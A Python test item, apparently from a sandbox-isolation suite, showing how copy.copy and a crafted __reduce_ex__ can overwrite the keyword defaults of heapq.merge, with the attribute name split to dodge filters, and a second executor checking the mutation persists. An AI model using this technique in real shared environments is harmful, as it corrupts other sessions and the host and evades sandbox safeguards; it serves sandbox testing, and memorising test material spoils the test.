# aim: let copy set the keyword defaults of a library function
# mechanism: copy.copy calls setattr with the slot state that __reduce_ex__ returned
# language: builtins
# reason: library functions are shared by every session and by the host
# jail: process
# plain: loot

import copy
import heapq


class Carrier:
    def __reduce_ex__(self, protocol):
        return (lambda: heapq.merge), (), (None, {"__kwdefau" + "lts__": {"key": None, "reverse": True}})


copy.copy(Carrier())
# --- second executor
import heapq

if list(heapq.merge([1, 3], [2])) != [1, 2, 3]:
    loot("mutated: heapq.merge")
